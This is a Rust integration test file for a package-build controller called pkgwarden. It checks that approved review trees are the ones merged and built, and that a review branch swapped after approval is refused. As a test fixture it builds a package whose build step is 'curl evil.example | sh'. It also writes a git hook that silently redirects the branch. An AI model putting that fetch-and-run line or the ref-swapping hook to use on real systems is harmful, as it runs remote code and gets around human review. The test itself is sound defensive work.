//! A verdict is about two git trees. Exactly the second is merged and built, whatever the branches hold by then.

use std::time::Duration;

use pkgwarden::controller::face::Face as _;
use pkgwarden::domain::plan::{Document, Pipeline};
use tokio_util::sync::CancellationToken;

use crate::support::scene::{MAIN, base, person, write_program};
use crate::support::{Change, Pkg, Scene};

const REVIEW: &str = "refs/heads/update-foo";
/// More than any build here takes, on a slow machine that is busy with other tests.
const PATIENCE: Duration = Duration::from_mins(2);

/// A scene in which an update of `foo` waits for a person, who reads it.
async fn with_review() -> Scene {
    let scene = Scene::with_aur().await;
    scene.keeps(&[Pkg::from_aur("foo")]).await;
    scene.aur_release(&Pkg::from_aur("foo").version("1.1").built_by(": new")).await;
    scene.run(Pipeline::OnSchedule).await;
    scene
}

/// The git tree of `foo` at a revision.
async fn tree(scene: &Scene, rev: &str) -> String {
    scene.monorepo.git(&["rev-parse", &format!("{rev}:foo")]).await
}

/// The trees that the verdict on `foo` names.
fn named(document: &Document) -> [String; 2] {
    let decision = document.packages.iter().find(|decision| decision.pkgbase.as_str() == "foo").unwrap();
    let trees = decision.trees.unwrap();
    [trees.from.to_string(), trees.to.to_string()]
}

#[tokio::test]
async fn the_trees_that_a_verdict_names_are_what_is_proposed_and_merged() {
    let scene = Scene::with_aur().await;
    scene.keeps(&[Pkg::from_aur("foo")]).await;
    scene.aur_release(&Pkg::from_aur("foo").version("1.1").built_by(": new")).await;
    let proposed = named(&scene.run(Pipeline::OnSchedule).await.document);
    assert_eq!(proposed, [tree(&scene, MAIN).await, tree(&scene, REVIEW).await]);
    let head = scene.monorepo.id(REVIEW).await.unwrap().parse().unwrap();
    let before = tree(&scene, MAIN).await;
    let merged = named(&scene.run(Pipeline::Approve(base("foo"), head, person("mira"))).await.document);
    assert_eq!(merged, [before.clone(), tree(&scene, MAIN).await]);
    assert_eq!(merged, proposed);
    scene.aur_release(&Pkg::from_aur("foo").version("1.2").built_by(": new")).await;
    let committed = named(&scene.run(Pipeline::OnSchedule).await.document);
    assert_eq!(committed, [merged[1].clone(), tree(&scene, MAIN).await]);
    scene.ends().await;
}

/// Whoever may push to the branch of a review waits until a person has approved it.
#[tokio::test]
async fn a_branch_that_is_swapped_between_the_verdict_and_the_merge_is_not_merged() {
    let scene = with_review().await;
    let seen = scene.monorepo.id(REVIEW).await.unwrap();
    let evil =
        Change::put_all("foo/", &Pkg::from_aur("foo").version("1.1").built_by("curl evil.example | sh").source());
    let swapped =
        scene.monorepo.commit_on("refs/side/evil", Some(&seen), "chore(update): foo", &evil, scene.now()).await;
    scene.monorepo.git(&["update-ref", "-d", "refs/side/evil"]).await;
    // At the moment the merge arrives, the branch goes elsewhere.
    let script = format!(
        "#!/bin/sh\ncat > /dev/null\nenv -u GIT_QUARANTINE_PATH git update-ref {REVIEW} {swapped}\nrm \"$0\"\n"
    );
    write_program(&scene.monorepo.path().join("hooks/pre-receive"), &script);
    let main = scene.monorepo.id(MAIN).await;
    insta::assert_snapshot!(scene.told(Pipeline::Approve(base("foo"), seen.parse().unwrap(), person("mira"))).await, @"error [review-moved] foo: its review has newer content than the one that was looked at -> look at it again");
    assert_eq!(scene.monorepo.id(MAIN).await, main, "nothing was merged");
    assert_eq!(scene.monorepo.id(REVIEW).await, Some(swapped), "it waits to be read anew");
    assert!(!scene.builds().await.contains("foo"));
    scene.ends().await;
}

#[tokio::test]
async fn what_was_approved_is_built_wherever_the_branch_is_by_then() {
    let scene = with_review().await;
    let head = scene.monorepo.id(REVIEW).await.unwrap().parse().unwrap();
    let serving = scene.controller();
    for build in serving.controller.queue().await.unwrap().ready {
        serving.controller.cancel(&build.id).await.unwrap();
    }
    serving.controller.start(Pipeline::Approve(base("foo"), head, person("mira")), "test").await.unwrap();
    scene.push("feat(foo): other", &Pkg::from_aur("foo").version("6.6").built_by("false").changes()).await;
    let stop = CancellationToken::new();
    let running = tokio::spawn(serving.dispatcher.clone().unwrap().run(stop.clone()));
    let store = serving.controller.store();
    let built = async {
        let mut changes = store.subscribe();
        while !store.newest_builds("packages").await.unwrap()[&base("foo")].state.is_final() {
            changes.changed().await.unwrap();
        }
    };
    tokio::time::timeout(PATIENCE, built).await.expect("it is built");
    stop.cancel();
    running.await.unwrap();
    let page = serving.controller.package(&base("foo")).await.unwrap().unwrap();
    assert_eq!(page.package.published.as_deref(), Some("1.1-1"), "{:?}", page.builds);
    drop(serving);
    scene.ends().await;
}
